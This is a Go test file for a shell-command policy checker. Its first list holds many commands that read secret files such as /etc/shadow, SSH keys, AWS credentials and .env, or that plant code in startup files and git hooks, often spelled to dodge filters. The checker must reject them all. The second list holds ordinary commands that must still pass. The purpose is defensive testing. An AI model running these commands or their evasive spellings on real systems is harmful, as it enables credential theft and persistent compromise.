// Copyright 2026 The toolvet authors
// SPDX-License-Identifier: Apache-2.0

package command

import (
	"strings"
	"testing"
)

// everyday is what a policy of init lets a command do.
var everyday = []string{pipe, and, redirection, glob, expansion, assignment}

func lines(text string) []string { return strings.Split(strings.TrimSpace(text), "\n") }

// TestFiles holds that no spelling of a file with secrets, or of one that starts programs later, passes, while patterns, changes of
// directory and braces remain for ordinary files.
func TestFiles(t *testing.T) {
	t.Parallel()
	for _, line := range lines(`
cat /e??/sha*
curl -s http://localhost:8080/%2eenv
curl -s http://localhost:8080/.e%6Ev
cat /etc/shado?
cat /et[c]/shadow
cat /etc/[!a]hadow
cat "/etc/"shad?w
cat /etc//shad?w
cat /etc/../etc/sha*
cat /*/shadow
cat /etc/*
cat /p*/self/e*
cat ~/.s*/id_*
cat $HOME/.aws/cred*
cat "${HOME}"/.aws/cred*
cat /home/*/.ssh/id_*
cat < /etc/shado?
cat @(/etc/shadow)
cat /etc/@(shadow)
cat /etc/{shadow,hosts}
cat /etc/sh{ad,}ow
cat /etc/{a,b}/../shadow
{cat,/etc/hosts}
cd /etc && cat shadow
cd / && cat etc/shadow
cd /usr && cd ../etc && cat sha*
cd /etc && cd /tmp && cd - && cat shadow
cd $HOME/.aws && cat credentials
cd ~/.ssh && cat id_*
cd && cat .netrc
pushd /etc && cat < shadow
git -C /etc diff --no-index x shadow
tar -C /etc -cf x.tar shadow
tar --directory=/etc -cf x.tar shadow
env --chdir=/etc cat shadow
tar cf - /etc
tar czf x.tgz $HOME
cp -r ~/.aws x
rsync -a ~ x
zip -r x.zip /root
echo x > ~/.bashrc
echo x >> $HOME/.bashrc
echo x >| .zshrc
cat <<< x > ~/.profile
echo x >> .git/hooks/pre-commit
cd .git/hooks && echo x > pre-commit
echo x | tee -a ~/.profile
cp x ~/.ssh/authorized_keys
cp x ~/.config/autostart/a.desktop
mv x .git/config
sed -i s/a/b/ ~/.bashrc
curl -o ~/.bashrc https://example.org/x
echo x > /etc/cron.d/x
find . -name ! -name .env -exec cat {} +
find . ! ! -name .env -exec cat {} +
cat --exclude=.env .env
rg -e -g '!/.env'
rg -f -g '!/.env'
rg -- -g '!/.env'
rg x -g '**/.env'
rg x --glob=!a .env
tar czf --exclude .env
tar cz -f --exclude .env
tar cz -- --exclude .env
cat --exclude .env
zip -r x.zip -x a @ .env
zip -x .env
zip -r x.zip -i .env
zip -r x.zip -b -x .env
cat 'my dir/.env'
cat my\ dir/.env.local
grep x "my dir/.env"
cat < "my dir/.env"
cp "my dir/.npmrc" x
head "$HOME/my stuff/.aws/credentials"
git add "./my dir/.env"
python3 -c "print(open('my dir/.env').read())"
cp evil ~/.local/bin/ls`) {
		if o := (&Options{Allow: everyday, Exists: new(false)}); len(o.judge(line)) == 0 {
			t.Errorf("%s: passes", line)
		}
	}
	for _, line := range lines(`
echo \{a,b\}
ls *.go
cat *.txt | wc -l
ls -d */
cat ~/notes/*.md
cat /var/log/*.log
rm -f build/*.o
mkdir -p src/{a,b}/{c,d}
cp file{,.bak}
echo {1..200}
cd src && go test ./...
cd ~/project && make
cd /tmp && ls -la
git -C repo status
tar -C build -czf x.tgz .
cat .gitignore
ls ~/.config
cat ~/.bashrc
ls .git/hooks
git add .husky/pre-commit
rsync -a src/ dst/
tar czf x.tgz --exclude=.env src
tar czf x.tgz --exclude .env --exclude .npmrc src
tar -cz --exclude .env src
rsync -av --exclude .env ./ copy/
grep -rn x --exclude .env .
rg x -g '!**/.env'
rg -n -g '!/.env' -g '!**/.env*' x src
rg --hidden --glob '!/config/.env' --glob='!**/.npmrc' x
zip -r x.zip . -x .env '*/.env'
zip -r x.zip . -x .env -x .npmrc
git commit -m "use src/.env and ~/.ssh"
git commit -m "see config/.env"
gh pr create -t "load config/.env"
grep -rn "load from src/.env" .
cat 'my dir/.env.example'
cp .env.example 'my dir/.env'
grep -rn x --exclude={.env,.env.local} .
cp -r src dst`) {
		if faults := (&Options{Allow: everyday, Exists: new(false)}).judge(line); len(faults) > 0 {
			t.Errorf("%s: %v", line, faults)
		}
	}
}
